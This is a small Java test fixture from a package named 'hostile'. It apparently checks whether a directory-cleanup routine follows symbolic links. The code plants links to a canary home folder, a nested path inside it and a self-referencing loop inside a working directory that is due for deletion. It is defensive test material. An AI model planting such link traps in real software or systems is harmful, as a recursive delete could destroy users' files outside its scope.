// Leaves links to the user's folders in its own, which is going to be removed.
// ends: any
package hostile;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;

public class LinkLeftBehind {
    public static int attack(int n) throws Exception {
        Path own = Paths.get("").toAbsolutePath();
        Files.createSymbolicLink(own.resolve("aaa"), Canary.home());
        Files.createSymbolicLink(own.resolve("zzz"), Canary.home());
        Path inner = Files.createDirectories(own.resolve("in/side"));
        Files.createSymbolicLink(inner.resolve("deep"), Canary.home().resolve("deep"));
        Files.createSymbolicLink(inner.resolve("loop"), own);
        return 0;
    }
}
